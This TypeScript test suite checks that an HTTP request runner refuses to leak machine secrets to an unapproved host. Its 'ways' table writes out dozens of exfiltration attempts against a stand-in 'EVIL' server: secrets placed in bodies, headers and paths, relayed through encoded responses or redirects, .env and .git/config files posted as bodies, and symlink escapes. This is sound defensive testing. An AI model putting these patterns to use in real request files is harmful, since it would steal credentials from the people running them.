import assert from 'node:assert/strict';
import { mkdir, readFile, rm, symlink, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { after, beforeEach, describe, it } from 'mocha';
import { json, useServer } from '../requests/server';
import { useProgram } from './program';

const secret = 'hush "hush" & s3cret/value+1';
const base64 = Buffer.from(`user:${secret}`).toString('base64');

/** A token that a response contains. */
const received = 'token.of.a.response.2026';

/** An attempt to send a secret to a host that is not allowed. */
interface Way {
  /** The text of the document; APP and EVIL are the addresses of both servers. */
  text: string;
  args?: string[];
  /** Fields of the application in `hydrogen.json` that replace the defaults. */
  application?: object;
  files?: Record<string, string>;
  /** Files that are links, by their names. */
  links?: Record<string, string>;
  /** Returns the application's response to a request with this body. */
  respond?: (body: string) => unknown;
  status?: number;
  headers?: Record<string, string>;
  env?: Record<string, string>;
  /** Whether the first request may reach the application. */
  isSentToApplication?: boolean;
  /** The expected reason; by default that a secret would be sent to the other host. */
  says?: RegExp;
  /** The expected exit code. Default: 2. */
  code?: number;
}

const echo = '# @name echo\nPOST APP/hserve/v1/echo/\nContent-Type: text/plain\n\n{{$secret key}}\n\n';
const later = (line: string) => `### one\n${echo}### two\nPOST EVIL/\n\n${line}`;
const echoed = (encode: (text: string) => unknown): Pick<Way, 'text' | 'respond' | 'isSentToApplication'> => ({
  text: later('{{echo.response.body.said}}'),
  respond: body => ({ said: encode(body) }),
  isSentToApplication: true,
});

const ways: Record<string, Way> = {
  'directly in a body': { text: 'POST EVIL/\n\n{{$secret key}}' },
  'in a header': { text: 'GET EVIL/\nX-A: {{$secret key}}' },
  'in a path': { text: 'GET EVIL/{{$secret key}}/', says: /does not belong in an address/ },
  'in a host': { text: 'GET https://{{$secret key}}.example.com/', says: /does not belong in an address/ },
  'through a variable': { text: '@a = {{$secret key}}\nPOST EVIL/\n\n{{a}}' },
  'in a part of a form': {
    text: 'POST EVIL/\nContent-Type: multipart/form-data; boundary=x\n\n--x\nContent-Disposition: form-data; name="a"\n\n{{$secret key}}\n--x--',
  },
  'an environment variable that nobody allowed': {
    text: 'POST APP/hserve/v1/a/\n\n{{$processEnv OWN}}',
    says: /needs --allow-env OWN/,
  },
  'an allowed environment variable': { text: 'POST EVIL/\n\n{{$processEnv OWN}}', args: ['--allow-env', 'OWN'] },
  'through a response': echoed(text => text),
  'through a response, as base64': echoed(text => Buffer.from(`user:${text}`).toString('base64')),
  'through a response, as hex': echoed(text => Buffer.from(text).toString('hex')),
  'through a response, in an address': {
    ...echoed(text => text),
    text: `### one\n${echo}### two\nGET EVIL/{{echo.response.body.said}}/`,
  },
  'through a response, in a header': {
    ...echoed(text => encodeURIComponent(text)),
    text: `### one\n${echo}### two\nGET EVIL/\nX-A: {{echo.response.body.said}}`,
  },
  'through a header of a response': {
    text: later('{{echo.response.headers.x-said}}'),
    headers: { 'X-Said': base64 },
    isSentToApplication: true,
  },
  'a token of a response, as the token of another request': {
    text: '### one\n# @name login\nGET APP/hserve/v1/login/\n### two\nGET EVIL/\nAuthorization: Bearer {{login.response.body.said}}',
    respond: () => ({ token: received, said: received }),
    isSentToApplication: true,
  },
  'through an error of the service': {
    ...echoed(text => text),
    respond: body => ({ error_msg: `no ${body}` }),
    text: later('{{echo.response.body.error_msg}}'),
    status: 400,
  },
  'through a redirect': {
    text: `### one\nGET APP/hserve/v1/go/\nX-A: {{$secret key}}\n### two\nPOST EVIL/\n\n{{$secret key}}`,
    headers: { Location: 'EVIL/' },
    status: 302,
    isSentToApplication: true,
  },
  'through the settings of the repository: a server domain': {
    text: 'POST /hserve/v1/a/\n\n{{$secret key}}',
    application: { serverDomain: 'EVIL' },
  },
  'through the settings of the repository: an authorization server': {
    text: 'GET /oserve/v1/table/',
    application: { authUrl: 'EVIL' },
  },
  'through the settings of the repository: the token of a user': {
    text: '# @as user\nGET /hserve/v1/a/',
    application: { serverDomain: 'EVIL' },
  },
  'through the settings of the repository: another application': {
    text: 'POST /hserve/v1/a/\n\n{{$secret key}}',
    env: { HYDROGEN_CLIENT_ID: 'client-of-the-owner' },
    says: /is for client-1, but HYDROGEN_CLIENT_ID is client-of-the-owner/,
  },
  'through the settings of the repository: a proxy': {
    text: 'POST /hserve/v1/a/\n\n{{$secret key}}',
    application: { proxy: 'EVIL' },
    says: /has application\.proxy, which is not a known setting/,
  },
  'a value of .env that the document calls public, through a response': {
    ...echoed(text => text),
    text: later('{{echo.response.body.said}}').replace('$secret key', '$dotenv KEY public'),
    files: { '.env': "KEY='another value of the machine'" },
  },
  'a token that a response brought, in base64': {
    text: later('{{echo.response.body.said}}'),
    respond: () => ({ token: received, said: Buffer.from(`user:${received}`).toString('base64') }),
    isSentToApplication: true,
  },
  'a file .env that is a link': {
    text: 'POST EVIL/\n\n{{$dotenv OUTSIDE public}}',
    links: { '.env': 'OUTSIDE/env' },
    says: /\.env leads out of its folder/,
  },
  'a value of .env, also of one that the run does not know yet': {
    text: 'POST EVIL/\n\n{{$dotenv KEY}}',
    files: { '.env': 'KEY=another value of the machine' },
  },
  'a file .env as the body': {
    text: 'POST EVIL/\n\n< ./.env',
    files: { '.env': 'A=unknown to the run' },
    says: /the file \.\/\.env would go to/,
  },
  'a file of Git as the body': {
    text: 'POST EVIL/\n\n< ./.git/config',
    files: { '.git/config': 'unknown to the run' },
    says: /the file \.\/\.git\/config would go to/,
  },
  'a file behind a link as the body': {
    text: 'POST EVIL/\n\n< ./link',
    links: { link: 'OUTSIDE/kept' },
    says: /The file \.\/link cannot be read/,
  },
  'a report through a link': {
    text: 'GET APP/hserve/v1/a/',
    args: ['--junit', 'report.xml'],
    links: { 'report.xml': 'OUTSIDE/kept' },
    isSentToApplication: true,
    says: /^report\.xml cannot be written\. It may not be a link\.$/m,
  },
  'a report through the link of a folder': {
    text: 'GET APP/hserve/v1/a/',
    args: ['--junit', 'reports/kept'],
    links: { reports: 'OUTSIDE' },
    isSentToApplication: true,
    says: /^reports\/kept cannot be written\. It may not be a link\.$/m,
  },
  'a snapshot through a link': {
    text: 'GET APP/hserve/v1/a/\n\n?? snapshot',
    links: { 'a.hydrogen.http.snapshots.json': 'OUTSIDE/kept' },
    isSentToApplication: true,
    says: /The snapshot file cannot be read or written/,
    code: 1,
  },
};

describe('a repository that wants the secrets of the machine', () => {
  const application = useServer();
  const evil = useServer();
  const { path: inFolder, settings, write, call } = useProgram();
  const outside = path.join(os.tmpdir(), `hydrogen-outside-${process.pid}`);
  after(() => rm(outside, { recursive: true, force: true }));

  beforeEach(async () => {
    await mkdir(outside, { recursive: true });
    await writeFile(path.join(outside, 'env'), `OUTSIDE=${secret}`);
    await writeFile(path.join(outside, 'kept'), 'kept');
    evil.handler = json({});
  });

  for (const [name, way] of Object.entries(ways)) {
    it(`gets nothing ${name}`, async () => {
      const at = (text: string) =>
        text
          .replaceAll('APP', application.origin)
          .replaceAll('EVIL', evil.origin)
          .replaceAll('OUTSIDE/', `${outside}/`);
      const own = { serverDomain: application.origin, authUrl: application.origin, ...way.application };
      await settings(JSON.parse(at(JSON.stringify(own))) as object);
      for (const [file, text] of Object.entries(way.files ?? {})) await write(file, text);
      for (const [file, to] of Object.entries(way.links ?? {}))
        await symlink(to === 'OUTSIDE' ? outside : at(to), inFolder(file));
      await write('a.hydrogen.http', at(way.text));
      application.handler = (request, response, received) => {
        const headers = Object.fromEntries(
          Object.entries(way.headers ?? {}).map(([header, value]) => [header, at(value)]),
        );
        json(way.respond?.(received.body) ?? {}, way.status ?? 200, headers)(request, response, received);
      };
      const env = {
        HYDROGEN_SECRET_KEY: secret,
        HYDROGEN_CLIENT_SECRET: secret,
        HYDROGEN_USER_TOKEN: secret,
        OWN: secret,
        HYDROGEN_ALLOW_HOSTS: new URL(application.origin).host,
        ...way.env,
      };
      const { code, out, errors } = await call(['--env', 'Staging', ...(way.args ?? [])], env);
      for (const file of Object.keys({ ...way.files, ...way.links })) await rm(inFolder(file), { force: true });
      assert.equal(code, way.code ?? 2, out + errors);
      const { host } = new URL(evil.origin);
      assert.match(`${out}${errors}`, way.says ?? new RegExp(`It was not sent, because .* would go to ${host}\\.`));
      assert.equal(await readFile(path.join(outside, 'kept'), 'utf8'), 'kept');
      assert.deepEqual(evil.received, [], out + errors);
      if (way.isSentToApplication !== true) assert.deepEqual(application.received, []);
      assert.ok(!`${out}${errors}`.includes('s3cret'), out + errors);
    });
  }

  it('names the secret and the host, and sends it when the owner of the machine allows that host', async () => {
    await settings({ serverDomain: application.origin, authUrl: application.origin });
    await write('a.hydrogen.http', `POST ${evil.origin}/\n\n{{$secret key}}`);
    const { host } = new URL(evil.origin);
    const env = { HYDROGEN_SECRET_KEY: secret, HYDROGEN_ALLOW_HOSTS: '' };
    const { out } = await call(['--env', 'Staging'], env);
    assert.ok(out.includes(`would go to ${host}. If you trust that host, add --allow-host ${host}.`), out);
    assert.equal((await call(['--env', 'Staging', '--allow-host', host], env)).code, 0);
    assert.equal((await call(['--env', 'Staging'], { ...env, HYDROGEN_ALLOW_HOSTS: host })).code, 0);
    assert.deepEqual(
      evil.received.map(({ body }) => body),
      [secret, secret],
    );
    for (const wrong of ['https://a.example', '*', 'a b/c', '*.example.com'])
      assert.equal((await call(['--env', 'Staging', '--allow-host', wrong], env)).code, 2, wrong);
  });

  it('sends the credentials of an upload to its storage host', async () => {
    await settings({ serverDomain: application.origin, authUrl: application.origin });
    const [authorization, policy] = ['UPYUN operator:c2lnbmF0dXJlIG9mIDIwMjY=', 'cG9saWN5IG9mIGFuIHVwbG9hZCBvZiAyMDI2'];
    application.handler = json({ upload_url: `${evil.origin}/bucket`, authorization, policy });
    const upload = '# @name upload\nPOST /hserve/v2.1/upload/\n\n{"filename":"a.txt"}\n\n';
    const fields = '{{upload.response.body.authorization}}\n{{upload.response.body.policy}}';
    await write('a.hydrogen.http', `### one\n${upload}### two\nPOST {{upload.response.body.upload_url}}\n\n${fields}`);
    const env = { HYDROGEN_ALLOW_HOSTS: new URL(application.origin).host };
    const { code, out, errors } = await call(['--env', 'Staging'], env);
    assert.equal(code, 0, out + errors);
    assert.deepEqual(
      evil.received.map(({ body }) => body),
      [`${authorization}\n${policy}`],
    );
  });
});
